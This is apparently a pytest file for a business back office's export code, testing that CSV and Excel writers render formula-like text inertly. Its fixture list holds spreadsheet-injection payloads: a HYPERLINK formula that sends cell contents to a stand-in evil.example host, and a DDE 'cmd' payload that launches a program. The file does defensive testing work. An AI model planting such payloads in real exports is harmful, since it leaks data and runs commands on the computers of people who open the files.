"""Exports are data, never formulas (issue 22): a text value beginning with = + - @, a tab or a CR
comes out of every CSV and workbook the workbench writes as text (a CSV field with a leading
quote, a workbook cell as a string cell), while numbers, negatives included, stay numbers.

One rule (``spreadsheets``), then one test per writer: the reconciliation workbook, the package
alert CSV and Excel, the package status CSV PostgreSQL writes (COPY), coach earnings, the CLI's
CSV rows (packages, payroll compute, staff/attendance), the payroll workbook and the filings.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pandas as pd
import pytest
import sqlalchemy as sa
from openpyxl import Workbook, load_workbook

from backoffice_lib import spreadsheets

D = Decimal
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]
ADMIN = "exports-admin@studio.example"


def as_read_back(text: str) -> str:
    """XML reads a raw carriage return back as a line feed: the cell is text either way."""
    return text.replace("\r", "\n")


def fields(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_inert_csv_field(field: str, hostile: str) -> None:
    assert field == "'" + as_read_back(hostile)


def assert_no_formula_in(path) -> None:
    """No ``<f>`` element in any sheet of the saved file: nothing a spreadsheet evaluates."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name


def assert_text_cells(path, sheet: str, texts) -> None:
    """Each of ``texts`` is in ``sheet`` as a string cell holding exactly that text."""
    cells = {c.value: c for row in load_workbook(path)[sheet].iter_rows() for c in row}
    for text in map(as_read_back, texts):
        assert text in cells, (text, sheet)
        assert cells[text].data_type == "s", text


# --------------------------------------------------------------------------- the rule


@pytest.mark.parametrize("value, expected", [
    *[pytest.param(h, "'" + as_read_back(h), id=f"hostile {h[:12]!r}") for h in HOSTILE],
    pytest.param("a\rb", "a\nb", id="a CR inside text becomes a LF (a CSV quotes it)"),
    pytest.param("Somchai", "Somchai", id="ordinary text unchanged"),
    pytest.param("ก=ข", "ก=ข", id="an = inside is harmless"),
    pytest.param("-1200.00", "-1200.00", id="a plain negative number as text stays a number"),
    pytest.param("-7", "-7", id="a negative whole number as text stays a number"),
    pytest.param("-1e5", "'-1e5", id="an exponent is not a plain number"),
    pytest.param("+66812345678", "'+66812345678", id="a phone number with + is text"),
    pytest.param(D("-12.50"), D("-12.50"), id="Decimal negative unchanged"),
    pytest.param(-3, -3, id="int negative unchanged"),
    pytest.param(-1.5, -1.5, id="float negative unchanged"),
    pytest.param(None, None, id="None unchanged"),
    pytest.param(dt.date(2025, 1, 31), dt.date(2025, 1, 31), id="a date unchanged"),
])
def test_inert_value_prefixes_formula_text_and_leaves_numbers(value, expected):
    assert spreadsheets.inert_value(value) == expected


def test_make_workbook_inert_writes_string_cells_and_keeps_numbers(tmp_path):
    book = Workbook()
    sheet = book.active
    for text in HOSTILE + ["#REF!"]:
        sheet.append([text, -5, D("-12.50"), -1.5])
    spreadsheets.make_workbook_inert(book)
    book.save(tmp_path / "book.xlsx")
    assert_no_formula_in(tmp_path / "book.xlsx")
    loaded = load_workbook(tmp_path / "book.xlsx").active
    for row, text in zip(loaded.iter_rows(), HOSTILE + ["#REF!"], strict=True):
        assert (row[0].value, row[0].data_type) == (as_read_back(text), "s")
        assert row[0].quotePrefix == (text != "#REF!")
        assert [c.value for c in row[1:]] == [-5, -12.5, -1.5]
        assert [c.data_type for c in row[1:]] == ["n", "n", "n"]


@pytest.mark.parametrize("value, expected", [
    ("Khun\x07Bell", "Khun\ufffdBell"), ("a\x00b\x1fc", "a\ufffdb\ufffdc"),
    ("tab\tand\nline", "tab\tand\nline"), ("ไทย", "ไทย"), (-5, -5), (None, None),
])
def test_workbook_text_replaces_what_a_workbook_cannot_hold(value, expected):
    assert spreadsheets.workbook_text(value) == expected


def test_inert_sql_is_the_same_rule_in_postgresql(conn):
    values = HOSTILE + ["Somchai", "-1200.00", "-1e5", "+66812345678"]
    for value in values:
        got = conn.execute(sa.text(f"SELECT {spreadsheets.inert_sql('CAST(:v AS text)')}"),
                           {"v": value}).scalar_one()
        assert as_read_back(got) == spreadsheets.inert_value(value), value  # PG quotes a CR


# --------------------------------------------------------------------------- each writer


def test_reconciliation_workbook_partner_text_is_data(conn, tmp_path):
    from backoffice_lib.reconciliation import service
    from backoffice_lib.reconciliation.reports import workbook

    conn.execute(sa.text("INSERT INTO backoffice.allowed_users (email, is_admin)"
                         " VALUES (:e, true)"), {"e": ADMIN})
    partner = tmp_path / "=cmd|'-C calc'!A0.csv"  # the file's name lands in the summary
    with partner.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Date", "SKU", "Item", "Qty", "Amount"])
        for n, text in enumerate(HOSTILE):
            writer.writerow(["2025-01-05", f"ZZ-{n}", text, 1, 120])
        writer.writerow(["2025-01-05", "ZZ-REFUND", "Refund", 1, "-150.00"])
        writer.writerow(["2025-01-05", "ZZ-BELL", "Pad\x07Thai", 1, "10.00"])  # a stray byte
    result = service.run_reconciliation(conn, ADMIN, "restaurant", partner)
    path = workbook.save_session_workbook(conn, result["session_id"], tmp_path / "out.xlsx")
    assert_no_formula_in(path)
    assert_text_cells(path, "invoice_only", {h.strip() for h in HOSTILE})  # cells are trimmed
    assert_text_cells(path, "summary", ["=cmd|'-C calc'!A0.csv"])
    assert_text_cells(path, "invoice_only", ["Pad\ufffdThai"])  # not a failed workbook
    rows = list(load_workbook(path)["invoice_only"].iter_rows())
    header = [c.value for c in rows[0]]
    amounts = [r[header.index("invoice_amount")] for r in rows[1:]]
    assert -150 in [c.value for c in amounts]
    assert {c.data_type for c in amounts} == {"n"}


def _alert(customer: str, phone: str) -> dict:
    return {"raised_on": dt.date(2025, 6, 30), "alert_level": "low_balance",
            "message": "low balance", "package_id": "0b0e8f8e-0000-4000-8000-000000000001",
            "customer_name": customer, "contact_number": phone, "email": "@evil.example",
            "package_type_name": "10 hours", "package_category": "Monthly",
            "purchase_date": dt.date(2025, 5, 1), "first_use_date": None,
            "expiration_date": None, "total_hours": D("10.00"), "used_hours": D("11.00"),
            "remaining_hours": D("-1.00")}


def test_package_alert_csv_and_excel_names_are_data(tmp_path):
    from backoffice_lib.packages import reports, rules

    files = reports.write_alert_files([_alert(h, "+66 81 234 5678") for h in HOSTILE], tmp_path,
                                     dt.date(2025, 6, 30))
    rows = fields(files["csv"].read_bytes().decode("utf-8"))
    header = rows[0]
    for row, hostile in zip(rows[1:], HOSTILE, strict=True):
        assert_inert_csv_field(row[header.index("customer_name")], hostile)
        assert row[header.index("contact_number")] == "'+66 81 234 5678"
        assert row[header.index("email")] == "'@evil.example"
        assert row[header.index("remaining_hours")] == "-1.00"
    assert_no_formula_in(files["xlsx"])
    assert_text_cells(files["xlsx"], "alerts", HOSTILE)
    sheet = list(load_workbook(files["xlsx"])["alerts"].iter_rows())
    remaining = sheet[1][rules.ALERT_LIST_COLUMNS.index("remaining_hours")]
    assert (remaining.value, remaining.data_type) == (-1, "n")


def test_a_control_character_does_not_fail_the_alert_workbook(tmp_path):
    """openpyxl refuses a whole file for one bell (\x07) typed in a name: it is written as U+FFFD
    in the workbook (the CSV keeps it)."""
    from backoffice_lib.packages import reports

    files = reports.write_alert_files([_alert("Khun\x07 Bell", "081")], tmp_path,
                                     dt.date(2025, 6, 30))
    assert_text_cells(files["xlsx"], "alerts", ["Khun\ufffd Bell"])
    assert fields(files["csv"].read_bytes().decode("utf-8"))[1][4] == "Khun\x07 Bell"


def test_package_status_csv_from_copy_names_are_data(conn):
    from backoffice_lib.packages import service

    conn.execute(sa.text("INSERT INTO backoffice.allowed_users (email) VALUES (:e)"),
                 {"e": ADMIN})
    type_id = conn.execute(sa.text(
        "INSERT INTO backoffice.package_types (name, type, hours, validity_period)"
        " VALUES ('@SUM(1) hours', 'Monthly', 10, '1 month') RETURNING id")).scalar_one()
    for hostile in HOSTILE:
        service.sell_package(conn, ADMIN, customer_name=hostile, package_type=type_id,
                             purchase_date=dt.date(2025, 5, 1))
    out = io.StringIO()
    service.copy_package_status_csv(conn, dt.date(2025, 6, 30), out)
    rows = fields(out.getvalue())
    header = rows[0]
    mine = [r for r in rows[1:] if r[header.index("package_type_name")] == "'@SUM(1) hours"]
    names = sorted(r[header.index("customer_name")] for r in mine)
    assert names == sorted("'" + h.strip() for h in HOSTILE)  # the sale trims the name
    assert {r[header.index("total_hours")] for r in mine} == {"10.00"}


def test_coach_earnings_csv_names_are_data(tmp_path):
    from backoffice_lib.packages import reports, rules

    rows = [{c: None for c in rules.EARNINGS_COLUMNS} | {
        "booking_id": f"b{n}", "customer_name": h, "hours": D("1.00"),
        "coach_earnings": D("-500.00")} for n, h in enumerate(HOSTILE)]
    path = reports.write_earnings_csv(rows, tmp_path / "earnings.csv")
    parsed = fields(path.read_bytes().decode("utf-8"))
    header = parsed[0]
    for row, hostile in zip(parsed[1:], HOSTILE, strict=True):
        assert_inert_csv_field(row[header.index("customer_name")], hostile)
        assert row[header.index("coach_earnings")] == "-500.00"


def test_cli_packages_csv_rows_are_data():
    from backoffice_lib.cli.packages import write_rows

    out = io.StringIO()
    write_rows([{"customer_name": h, "hours": D("-3.50")} for h in HOSTILE],
               ["customer_name", "hours"], "csv", out)
    for row, hostile in zip(fields(out.getvalue())[1:], HOSTILE, strict=True):
        assert_inert_csv_field(row[0], hostile)
        assert row[1] == "-3.50"


def test_payroll_compute_csv_names_are_data_and_money_stays_numbers():
    from backoffice_lib.payroll.reports.outputs import compose_pay_csv

    rows = [{"staff_id": "S001", "staff_name": h, "working_days": 3, "net_pay": "-12.50"}
            for h in HOSTILE]
    parsed = fields(compose_pay_csv(rows, ["staff_id", "staff_name", "working_days", "net_pay"]))
    assert parsed[0] == ["staff_id", "staff_name", "working_days", "net_pay"]
    for row, hostile in zip(parsed[1:], HOSTILE, strict=True):
        assert row == ["S001", "'" + as_read_back(hostile), "3", "-12.50"]


def test_cli_staff_and_attendance_csv_are_data(capsys):
    from backoffice_lib.cli.staff import _print

    _print(pd.DataFrame({"staff_name": HOSTILE, "hours": ["-1.00"] * len(HOSTILE)}), "csv")
    parsed = fields(capsys.readouterr().out)
    for row, hostile in zip(parsed[1:], HOSTILE, strict=True):
        assert row == ["'" + as_read_back(hostile), "-1.00"]


def _payroll_with_names(names: list[str]):
    from backoffice_lib import bangkok
    from backoffice_lib.payroll.rules import PayrollInputs, compute_payroll, entries_window

    staff = [{"id": n + 1, "staff_id": f"S{n + 1:03d}", "staff_name": name, "is_active": True}
             for n, name in enumerate(names)]
    comp, entries = [], []
    for person in staff:
        comp.append({"id": person["id"], "staff_id": person["id"], "compensation_type": "hourly",
                     "base_salary": D(0), "hourly_rate": D(100), "ot_rate_per_hour": D(0),
                     "holiday_rate_per_hour": D(0), "is_service_charge_eligible": False,
                     "min_hours_for_allowance": 6, "effective_from": dt.date(2024, 1, 1),
                     "effective_to": None})
        for action, clock in (("clock_in", "09:00"), ("clock_out", "17:00")):
            moment = dt.datetime.fromisoformat(f"2025-01-06 {clock}").replace(
                tzinfo=bangkok.BANGKOK)
            entries.append((person["id"], action, moment))
    frame = pd.DataFrame(entries, columns=["staff_id", "action", "timestamp"])
    frame.insert(0, "id", range(1, len(frame) + 1))
    start, end = entries_window("2025-01", "16")
    return compute_payroll(PayrollInputs(
        month="2025-01", staff=pd.DataFrame(staff), compensation=pd.DataFrame(comp),
        entries=frame[(frame["timestamp"] >= start) & (frame["timestamp"] < end)],
        holidays=set(), settings={}, service_charge_pool=None))


def test_payroll_workbook_names_are_data(tmp_path):
    from backoffice_lib.payroll.reports.outputs import write_workbook

    path = write_workbook(_payroll_with_names([*HOSTILE, "Bell\x07Name"]),
                          tmp_path / "payroll.xlsx")
    assert_no_formula_in(path)
    assert_text_cells(path, "Summary", [*HOSTILE, "Bell\ufffdName"])  # not a failed workbook
    assert_text_cells(path, "Detail", [*HOSTILE, "Bell\ufffdName"])
    summary = list(load_workbook(path)["Summary"].iter_rows())
    header = next(r for r in summary if r[0].value == "staff_id")
    total_pay = next(c.column for c in header if c.value == "total_pay")
    person = next(r for r in summary if r[1].value == HOSTILE[0])
    assert (person[total_pay - 1].value, person[total_pay - 1].data_type) == (800, "n")


def _filings():
    from backoffice_lib.payroll.rules.filings import Filings

    common = [{"seq": n + 1, "staff_id": f"S{n + 1:03d}", "national_id": "1101700203451",
               "title": "Mr", "first_name": h, "last_name": "@evil"} for n, h in enumerate(HOSTILE)]
    return Filings(
        month="2025-01",
        employer={"name": "=EMPLOYER()", "tax_id": "0105561234567", "address": "Bangkok",
                  "sso_account": "1234567890", "sso_branch": "000000"},
        employee_rate=D("0.05"),
        sso_lines=[c | {"wage": D("15000.00"), "contribution": D("750.00"),
                        "employer_contribution": D("750.00")} for c in common],
        sso_totals={"employees": len(common), "wages": D("90000.00"),
                    "employee_contributions": D("4500.00"),
                    "employer_contributions": D("4500.00"), "contributions": D("9000.00")},
        pnd1_lines=[c | {"income_paid": D("15000.00"), "tax_withheld": D("-10.00")}
                    for c in common],
        pnd1_totals={"income_paid": D("90000.00"), "tax_withheld": D("-60.00")},
    )


def test_filing_workbooks_and_pnd1_csv_names_are_data(tmp_path):
    from backoffice_lib.payroll.reports import filings as filing_files

    filings = _filings()
    sso = filing_files.write_sso_workbook(filings, tmp_path / "sso.xlsx")
    pnd1 = filing_files.write_pnd1_workbook(filings, tmp_path / "pnd1.xlsx")
    for path in (sso, pnd1):
        assert_no_formula_in(path)
    assert_text_cells(sso, "Part 2 insured", HOSTILE + ["@evil"])
    assert_text_cells(sso, "Part 1 totals", ["=EMPLOYER()"])
    assert_text_cells(pnd1, "PND1", HOSTILE + ["@evil", "=EMPLOYER()"])
    withheld = [r[7] for r in load_workbook(pnd1)["PND1"].iter_rows(min_row=3)]
    assert {(c.value, c.data_type) for c in withheld[:-1]} == {(-10, "n")}
    filings.employer["name"] = "Studio\x07 Co"
    filings.pnd1_lines[0]["last_name"] = "Bell\x07"
    filings.sso_lines[0]["last_name"] = "Bell\x07"
    assert_text_cells(filing_files.write_sso_workbook(filings, tmp_path / "sso2.xlsx"),
                      "Part 2 insured", ["Bell\ufffd"])
    assert_text_cells(filing_files.write_pnd1_workbook(filings, tmp_path / "pnd2.xlsx"), "PND1",
                      ["Bell\ufffd", "Studio\ufffd Co"])
    rows = fields(filing_files.compose_pnd1_csv(_filings()))
    for row, hostile in zip(rows[1:], HOSTILE, strict=False):
        assert row[4] == "'" + as_read_back(hostile)
        assert row[5] == "'@evil"
        assert row[7] == "-10.00"
